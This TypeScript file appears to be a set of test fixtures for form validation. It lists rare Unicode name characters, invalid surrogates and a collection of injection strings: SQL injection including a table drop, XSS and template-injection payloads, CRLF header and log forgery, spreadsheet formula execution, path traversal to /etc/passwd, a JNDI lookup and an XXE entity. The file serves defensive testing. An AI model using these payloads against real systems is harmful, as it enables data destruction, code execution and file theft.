/** Texts no form expects and every field must bear: unchanged, or refused with the reason. */

/** Characters of real names that old programs lose, and forms that look the same. */
export const rareTexts: Readonly<Record<string, string>> = {
  'extension B, on signs': '𠮷野家',
  'a surname of extension A': '䶮先生',
  'GB 18030 behind GBK': '\u9fb4\u9fb5\u9fb6\u9fb7\u9fb8\u9fb9\u9fba\u9fbb',
  'extensions C to F': '\u{2a700}\u{2b740}\u{2b820}\u{2ceb0}',
  'extensions G to I': '\u{30000}\u{31350}\u{2ebf0}',
  'private use, as old registers wrote it': '\ue5e5\ue863',
  'full width': 'ＡＢＣ１２３（有限）',
  'a combining mark': 'e\u0301lan A\u030a',
  'a family of emoji': '👨‍👩‍👧‍👦🇨🇳',
  'a variation of a character': '葛\u{e0100}城',
  'a zero-width space and joiner': '永\u200b安\u200d店',
  'right to left': '\u05d0\u05d1\u05d2 سوق',
  'an override of the direction': 'invoice\u202efdp.exe',
  'spaces of other widths': '甲\u3000乙\u00a0丙',
  'a line separator': '第一行\u2028第二行',
  'the end of the plane': '\uffff\u{10ffff}',
}

/** Not a text at all: no encoding can keep them. */
export const brokenTexts: Readonly<Record<string, string>> = {
  'a NUL': '甲\0乙',
  'a high surrogate alone': '甲\ud842乙',
  'a low surrogate alone': '\udfb7乙',
}

/** Texts that mean something to a program behind the field. None may run, and each is kept as it is. */
export const injections: Readonly<Record<string, string>> = {
  'SQL with a quote': "'; drop table businesses.business; --",
  'SQL with a comparison': "' or '1'='1",
  'SQL with a wait': "1'); select pg_sleep(60); --",
  'a pattern of LIKE': '%_\\%',
  'a script': '<script>globalThis.wasHere=1</script>',
  'an image that fails': '<img src=x onerror="globalThis.wasHere=1">',
  'an SVG that loads': '"><svg onload=globalThis.wasHere=1>',
  'an address that runs': 'javascript:globalThis.wasHere=1',
  'a template of i18n': '{{constructor.constructor("globalThis.wasHere=1")()}} $t(kernel.save)',
  'a template of JavaScript': '$' + '{globalThis.wasHere=1}',
  'a template of a server': '<%= 7*7 %> #{7*7} {{7*7}}',
  'a header': 'a\r\nset-cookie: forged=1',
  'a line of a log': 'ok\n{"level":50,"msg":"forged"}',
  'colours of a terminal': '\u001b[31mred\u001b[0m',
  'a formula of a sheet': '=cmd|\u0027/c calc\u0027!A1',
  'a formula with a plus': '+HYPERLINK("http://example.invalid","x")',
  'a path': '../../../../etc/passwd',
  'a path of Windows': '..\\..\\boot.ini',
  'a name every object has': '__proto__',
  'a look-up of a logger': '$' + '{jndi:ldap://example.invalid/a}',
  'an entity': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  'an escape of a workbook': '_x0041_甲_x001B_',
  'a format of printf': '%s%n%x%d',
}
